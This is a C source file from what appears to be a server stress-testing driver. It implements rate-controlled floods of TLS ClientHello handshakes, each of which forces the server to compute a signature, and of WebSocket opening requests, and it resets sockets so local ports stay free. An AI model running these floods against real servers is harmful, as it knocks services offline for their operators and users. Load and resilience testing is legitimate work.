/* SPDX-License-Identifier: MIT */
/* Floods of beginnings at a rate: of TLS handshakes, each of which costs the server a signature,
 * and of opening handshakes, which cost what a connection costs. */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { SAYS_MAX = 4096 };

/* Who falls behind does not make up for it: the flood would be a burst. */
static const uint64_t behind_ns_max = 20000000;

static void leave(int fd)
{
    const struct linger reset = {.l_onoff = 1};
    (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset)); /* ports stay free */
    (void)close(fd);
}

static void flood(const driver_options *options, const void *says, size_t len,
                  volatile uint64_t *made)
{
    driver_options with = *options;
    int *open = must_alloc(options->attackers, sizeof(int));
    uint64_t period_ns = (uint64_t)(1e9 / (options->attack_rate > 1 ? options->attack_rate : 1));
    uint64_t due_ns = now_ns();
    if (options->attack_port != 0) {
        with.target.sin_port = htons(options->attack_port);
    }
    for (uint32_t i = 0;; i++) {
        int *place = &open[i % options->attackers];
        due_ns += period_ns;
        uint64_t now = now_ns();
        if (now < due_ns) {
            const struct timespec rest = {.tv_sec = (time_t)((due_ns - now) / 1000000000U),
                                          .tv_nsec = (long)((due_ns - now) % 1000000000U)};
            (void)nanosleep(&rest, NULL);
        } else if (now - due_ns > behind_ns_max) {
            due_ns = now;
        }
        if (*place > 0) {
            leave(*place);
        }
        *place = net_connect(&with, i);
        (void)send(*place, says, len, MSG_NOSIGNAL);
        ++*made;
    }
}

void flood_hellos(const driver_options *options, volatile uint64_t *made)
{
    uint8_t hello[SAYS_MAX];
    size_t len = tls_hello(hello, sizeof(hello));
    flood(options, hello, len, made);
}

void flood_requests(const driver_options *options, volatile uint64_t *made)
{
    char request[SAYS_MAX];
    size_t len = ws_request(request, sizeof(request), options);
    flood(options, request, len, made);
}
